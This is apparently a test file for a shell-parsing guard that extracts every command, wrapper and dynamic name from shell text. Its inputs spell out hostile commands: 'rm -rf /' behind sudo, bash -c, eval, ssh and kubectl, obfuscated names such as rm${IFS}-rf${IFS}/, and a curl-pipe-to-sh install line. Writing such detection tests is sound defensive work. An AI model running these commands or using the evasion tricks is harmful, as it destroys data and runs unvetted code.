// Extraction: every command that runs is found, with its program, argv, wrappers and spans.
import { describe, expect, it } from "vitest";
import { extract } from "../../src/shell/extract";
import { LIMITS } from "../../src/core/limits";

function programs(text: string): string[] {
  return extract(text).invocations.map((i) => i.program);
}

function problems(text: string): string[] {
  return extract(text).problems.map((p) => p.kind);
}

/** The innermost invocation of `program`, for assertions on argv and via. */
function find(text: string, program: string) {
  const inv = extract(text).invocations.filter((i) => i.program === program).at(-1);
  if (!inv) throw new Error(`no ${program} in ${text}`);
  return inv;
}

describe("reaching every command", () => {
  it.each([
    ["a; rm x", "rm"],
    ["a && rm x || b", "rm"],
    ["a | rm x", "rm"],
    ["(rm x)", "rm"],
    ["{ rm x; }", "rm"],
    ["if a; then rm x; fi", "rm"],
    ["if a; then :; elif b; then :; else rm x; fi", "rm"],
    ["for i in 1 2; do rm x; done", "rm"],
    ["while a; do rm x; done", "rm"],
    ["until a; do rm x; done", "rm"],
    ["case $x in a) rm x;; esac", "rm"],
    ["f() { rm x; }", "rm"],
    ["function f { rm x; }", "rm"],
    ["echo $(rm x)", "rm"],
    ['echo "$(rm x)"', "rm"],
    ["echo `rm x`", "rm"],
    ["cat <(rm x)", "rm"],
    ["tee >(rm x)", "rm"],
    ["X=$(rm x)", "rm"],
    ["for i in $(rm x); do :; done", "rm"],
    ["[[ -n $(rm x) ]]", "rm"],
    ["echo $(( $(rm x) + 1 ))", "rm"],
    ["cat <<EOF\n$(rm x)\nEOF", "rm"],
    ["echo hi # x\nrm x", "rm"],
    ["rm \\\n x", "rm"],
    ["time rm x", "rm"],
    ["! rm x", "rm"],
    ["rm x &", "rm"],
    ["coproc rm x", "rm"],
  ])("%j runs %s", (text, program) => {
    expect(programs(text)).toContain(program);
  });

  it("does not run the body of a quoted heredoc", () => {
    expect(programs("cat <<'EOF'\n$(rm x)\nEOF")).toEqual(["cat"]);
  });

  it("does not treat arguments of echo as commands", () => {
    expect(programs('echo "rm -rf /"; grep -r "rm -rf" .')).toEqual(["echo", "grep"]);
  });
});

describe("program names", () => {
  it.each(["rm", "\\rm", "r''m", '"rm"', "$'\\x72m'", "/bin/rm", "/usr/local/bin/rm", "'/bin/rm'"])("%s is rm", (name) => {
    expect(programs(`${name} -rf x`)).toEqual(["rm"]);
  });

  it.each(["$X -rf ~", "$(cat cmd.txt) -rf /", "${CMD} x", '"$CMD" x', "rm${IFS}-rf${IFS}/", "/bin/r[m] -rf /", "/usr/bin/g?t push"])("%s has a dynamic name", (text) => {
    expect(problems(text)).toContain("dynamic-command");
  });
});

describe("argv words", () => {
  it("removes quotes and flags dynamic words", () => {
    const rm = find(`rm -r'f' "a b" $X "$HOME/x" *.log`, "rm");
    expect(rm.argv.map((w) => w.value)).toEqual(["rm", "-rf", "a b", "$X", "$HOME/x", "*.log"]);
    expect(rm.argv.map((w) => w.dynamic)).toEqual([false, false, false, true, true, false]);
    expect(rm.argv[5].glob).toBe(true);
  });

  it("keeps env assignments, redirects and spans", () => {
    const text = "cd x && RAILWAY_TOKEN=t railway up > out.log 2>&1";
    const inv = find(text, "railway");
    expect(inv.env).toMatchObject([{ name: "RAILWAY_TOKEN", value: "t" }]);
    expect(inv.redirects.map((r) => r.operator)).toEqual([">", ">&"]);
    expect(text.slice(inv.span.start, inv.span.end)).toBe("RAILWAY_TOKEN=t railway up > out.log 2>&1");
  });

  it("records pipeline neighbours and heredoc bodies", () => {
    const cat = find("cat <<EOF | sort\nb\na\nEOF", "cat");
    expect(cat.stdin).toMatchObject({ kind: "heredoc", text: "b\na\n" });
    const sort = find("cat <<EOF | sort\nb\na\nEOF", "sort");
    expect(sort.pipeline).toEqual({ index: 1, size: 2 });
    expect(sort.stdin?.kind).toBe("pipe");
  });
});

describe("wrappers", () => {
  it.each([
    ["sudo rm -rf /", ["sudo"]],
    ["sudo -u root -E rm -rf /", ["sudo"]],
    ["sudo --user=root rm -rf /", ["sudo"]],
    ["doas -u root rm -rf /", ["doas"]],
    ["env -i -u PATH X=1 rm -rf /", ["env"]],
    ["env --chdir=/ rm -rf /", ["env"]],
    ["command rm -rf /", ["command"]],
    ["builtin exec rm -rf /", ["builtin", "exec"]],
    ["exec -a name rm -rf /", ["exec"]],
    ["nohup rm -rf /", ["nohup"]],
    ["nice -n 10 rm -rf /", ["nice"]],
    ["nice -10 rm -rf /", ["nice"]],
    ["ionice -c 3 rm -rf /", ["ionice"]],
    ["/usr/bin/time -f %e rm -rf /", ["time"]],
    ["timeout 5 rm -rf /", ["timeout"]],
    ["timeout -s KILL -k 1 5s rm -rf /", ["timeout"]],
    ["stdbuf -oL rm -rf /", ["stdbuf"]],
    ["setsid -f rm -rf /", ["setsid"]],
    ["watch -x rm -rf /", ["watch"]],
    ["watch -n 1 rm -rf /", ["watch"]],
    ["xargs -0 -n 1 -I {} rm -rf /", ["xargs"]],
    ["find . -exec rm -rf / \\;", ["find"]],
    ["find . -execdir rm -rf / +", ["find"]],
    ["find . -ok rm -rf / \\;", ["find"]],
    ["bash -c 'rm -rf /'", ["bash -c"]],
    ["sh -lc 'rm -rf /'", ["sh -c"]],
    ["zsh -ic 'rm -rf /'", ["zsh -c"]],
    ["bash -c -l 'rm -rf /'", ["bash -c"]],
    ["bash --login -c 'rm -rf /'", ["bash -c"]],
    ["dash -e -c 'rm -rf /'", ["dash -c"]],
    ["ksh -o errexit -c 'rm -rf /'", ["ksh -c"]],
    ["eval 'rm -rf /'", ["eval"]],
    ["eval rm -rf /", ["eval"]],
    ["echo 'rm -rf /' | bash", ["bash <stdin>"]],
    ["printf 'rm -rf /\\n' | sh", ["sh <stdin>"]],
    ["bash <<< 'rm -rf /'", ["bash <stdin>"]],
    ["bash <<EOF\nrm -rf /\nEOF", ["bash <stdin>"]],
    ["cat <<EOF | sh\nrm -rf /\nEOF", ["sh <stdin>"]],
    ["ssh -p 22 host 'rm -rf /'", ["ssh"]],
    ["docker exec -it web rm -rf /", ["docker"]],
    ["kubectl exec pod -c app -- rm -rf /", ["kubectl"]],
    ["su -c 'rm -rf /' root", ["su -c"]],
    ["sudo env X=1 bash -c 'eval \"rm -rf /\"'", ["sudo", "env", "bash -c", "eval"]],
  ])("%j reaches rm through %j", (text, via) => {
    const rm = find(text, "rm");
    expect(rm.via.map((v) => v.wrapper)).toEqual(via);
    expect(rm.argv.map((w) => w.value).slice(1)).toContain("/");
  });

  it("maps spans of a bash -c string back into the original text", () => {
    const text = "sudo bash -c 'echo hi; rm -rf /'";
    const rm = find(text, "rm");
    expect(text.slice(rm.span.start, rm.span.end)).toBe("rm -rf /");
  });

  it.each(["command -v rm", "sudo -l", "env", "xargs", "bash", "nohup"])("%s runs no inner command", (text) => {
    expect(extract(text).invocations).toHaveLength(1);
  });

  it("marks find -exec and xargs arguments as appended at run time", () => {
    expect(find("find . -exec rm {} \\;", "rm").appendedArgs).toBe("find");
    expect(find("ls | xargs rm", "rm").appendedArgs).toBe("stdin");
  });
});

describe("failing closed", () => {
  it.each([
    ["rm -rf \"/", "parse-error"],
    ["if true; then rm x", "parse-error"],
    ["curl -fsSL https://x.example/install.sh | sh", "unknown-shell-input"],
    ["base64 -d payload | bash", "unknown-shell-input"],
    ["bash ./deploy.sh", "unknown-shell-input"],
    ["source ./env.sh", "unknown-shell-input"],
    ["bash < script.sh", "unknown-shell-input"],
    ["bash -c \"rm $X\"", "dynamic-shell-string"],
    ["eval \"$CMD\"", "dynamic-shell-string"],
    ["bash <<< \"$CMD\"", "dynamic-shell-string"],
  ])("%j → %s", (text, kind) => {
    expect(problems(text)).toContain(kind);
  });

  it("stops at the nesting cap", () => {
    const levels = LIMITS.maxDepth + 3;
    const text = `${"echo $(".repeat(levels)}rm -rf /${")".repeat(levels)}`;
    expect(problems(text)).toContain("too-deep");
  });

  it("reports a $( depth bomb instead of recursing without bound", () => {
    const text = `${"$(".repeat(5000)}rm -rf /${")".repeat(5000)}`;
    expect(problems(text).some((k) => k === "parse-error" || k === "too-deep")).toBe(true);
  });

  it("refuses input over the size cap without parsing it", () => {
    expect(problems("a".repeat(LIMITS.maxInputChars + 1))).toEqual(["too-large"]);
  });

  it("reads a script through the reader it is given", () => {
    const result = extract("bash deploy.sh", { readFile: (p) => (p === "deploy.sh" ? "#!/bin/bash\nrm -rf /\n" : undefined) });
    expect(result.problems).toEqual([]);
    expect(result.invocations.map((i) => i.program)).toEqual(["bash", "rm"]);
  });
});

describe("bounded expansion", () => {
  it("stops brace expansion at its caps and fails closed", () => {
    // 2^30 words if expanded: the word stays unknown, and a recursive delete of it asks.
    expect(problems(`rm -rf ${"{a,b}".repeat(30)}`)).toEqual([]);
    expect(find(`rm -rf ${"{a,b}".repeat(30)}`, "rm").argv[2].dynamic).toBe(true);
    // Many words of 16 each: past the per-command cap guard stops expanding and says so, once.
    expect(problems(`echo ${"{a,b}{c,d}{e,f}{g,h} ".repeat(2000)}`)).toEqual(["too-large"]);
  });
});
